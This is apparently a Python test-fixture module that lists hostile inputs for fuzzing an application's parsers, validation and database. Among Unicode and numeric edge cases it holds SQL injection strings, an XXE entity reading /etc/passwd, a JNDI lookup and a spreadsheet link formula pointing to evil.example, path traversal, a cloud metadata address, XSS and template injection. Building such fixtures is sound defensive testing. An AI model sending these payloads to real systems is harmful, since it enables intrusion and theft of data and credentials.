"""Hostile payloads: texts, numbers, arrays and objects that break parsers, validation or databases."""

import os
from typing import Any


class Raw(str):
    """JSON source that is sent as it is, since no serializer produces it."""

    __slots__ = ()


def _nested(depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = [value]
    return value


TEXTS: dict[str, str] = {
    "empty": "",
    "a space": " ",
    "a no-break space": "\u00a0",
    "an invisible filler": "\u3164",
    "NUL": "a\0b",
    "NUL alone": "\0",
    "a terminal escape": "\x1b[2J",
    "delete": "a\x7fb",
    "a C1 control character": "a\x85b",
    "a carriage return": "a\rb",
    "a header injection": "a\r\nX-Evil: 1\r\n\r\n",
    "a line separator": "a\u2028b",
    "a lone high surrogate": "a\ud800b",
    "a lone low surrogate": "a\udfffb",
    "a bidi override": "a\u202eb",
    "a bidi isolate": "a\u2066b\u2069",
    "a zero-width joiner": "\u200d",
    "a byte order mark": "\ufeffa",
    "a noncharacter": "a\uffffb",
    "a noncharacter beyond the first plane": "a\U0010ffffb",
    "private use characters": "\ue000\U000f0000",
    "an emoji sequence": "👩🏽‍👩🏽‍👧🏽‍👦🏽" * 5,
    "many combining marks": "Z" + "\u0300" * 150,
    "text that grows under NFC": "\u0958" * 60,
    "text that grows under NFKC": "\ufdfa" * 20,
    "a sharp s": "ß" * 64,
    "a dotted capital I": "İstanbul ıI",
    "right to left": "\u05d0\u05d1\u05d2 \u0627\u0628",
    "Danish": "Ærø Åge Øllegård aa Aa AA",
    "decomposed Danish": "A\u030age",
    "an SQL quote": "' OR '1'='1",
    "an SQL statement": "'; DROP TABLE person; --",
    "a quoted identifier": '" UNION SELECT password_hash FROM person --',
    "an SQL comment": "/* */ --",
    "a dollar quote": "$$;SELECT pg_sleep(5);$$",
    "a placeholder": "%s %(id)s :id ? $1 {0} {id}",
    "a LIKE pattern": "%_%\\%",
    "a backslash": "\\",
    "an SQL cast": "1::int",
    "a formula": '=HYPERLINK("http://evil.example","x")',
    "a formula with a plus": "+1+1|cmd",
    "a formula after a tab": "\t=1",
    "markup": "<script>alert(1)</script>",
    "an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a path": "../../../../etc/passwd",
    "a percent-encoded path": "..%2f..%2fetc%2fpasswd%00",
    "an internal address": "http://169.254.169.254/latest/meta-data/",
    "null": "null",
    "true": "true",
    "not a number": "NaN",
    "infinity": "-Infinity",
    "a big number": "9" * 40,
    "an invalid date": "2026-02-30",
    "the first date": "0001-01-01",
    "the zero date": "0000-00-00",
    "the last date": "9999-12-31",
    "an invalid time": "2026-03-01T25:61:61Z",
    "the last time": "9999-12-31T23:59:59.999999-23:59",
    "the first time": "0001-01-01T00:00:00+23:59",
    "a leap second": "2026-06-30T23:59:60Z",
    "the nil UUID": "00000000-0000-0000-0000-000000000000",
    "the max UUID": "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "a UUID in braces": "{0198f3a0-7b8c-7d3e-9a51-0c2b6f1d4e77}",
    "a CPR number": "010203-1234",
    "a disguised CPR number": "0\u200b10203\u20131234",
    "as long as a name": "n" * 200,
    "longer than a name": "n" * 201,
    "longer than a text": "n" * 10_001,
    "very long": "n" * 100_000,
    "lines": "a\n" * 500,
}
VALUES: dict[str, Any] = {
    "null": None,
    "true": True,
    "false": False,
    "zero": 0,
    "negative": -1,
    "a fraction": 1.5,
    "the smallest double": 5e-324,
    "negative zero": -0.0,
    "the largest double": 1.7976931348623157e308,
    "2^31": 2**31,
    "2^53 and one": 2**53 + 1,
    "2^63": 2**63,
    "minus 2^63 and one less": -(2**63) - 1,
    "2^64": 2**64,
    "10^30": 10**30,
    "minus 10^400": Raw("-1e400"),
    "NaN": Raw("NaN"),
    "Infinity": Raw("Infinity"),
    "5000 digits": Raw("1" * 5000),
    "a duplicate member": Raw('{"a": 1, "a": 2}'),
    "an invalid escape": Raw('"\\x"'),
    "an unterminated string": Raw('"'),
    "an empty list": [],
    "a list in a list": [[]],
    "a list of nulls": [None] * 60,
    "a long list": ["x"] * 5000,
    "an empty object": {},
    "an object": {"a": {"b": [1]}},
    "prototype pollution": {"__proto__": {"x": 1}, "constructor": 1},
    "many members": {f"m{number}": number for number in range(500)},
    "nested too deep": _nested(33),
    "nested much too deep": Raw("[" * 5000 + "]" * 5000),
}
PAYLOADS: dict[str, Any] = {**{f"text, {name}": text for name, text in TEXTS.items()}, **VALUES}
ONE_OF = int(os.environ.get("SAMMEN_ONE_OF", "1"))
"""SAMMEN_ONE_OF=8 sends an eighth: every payload in some fields, and some payloads in every field."""
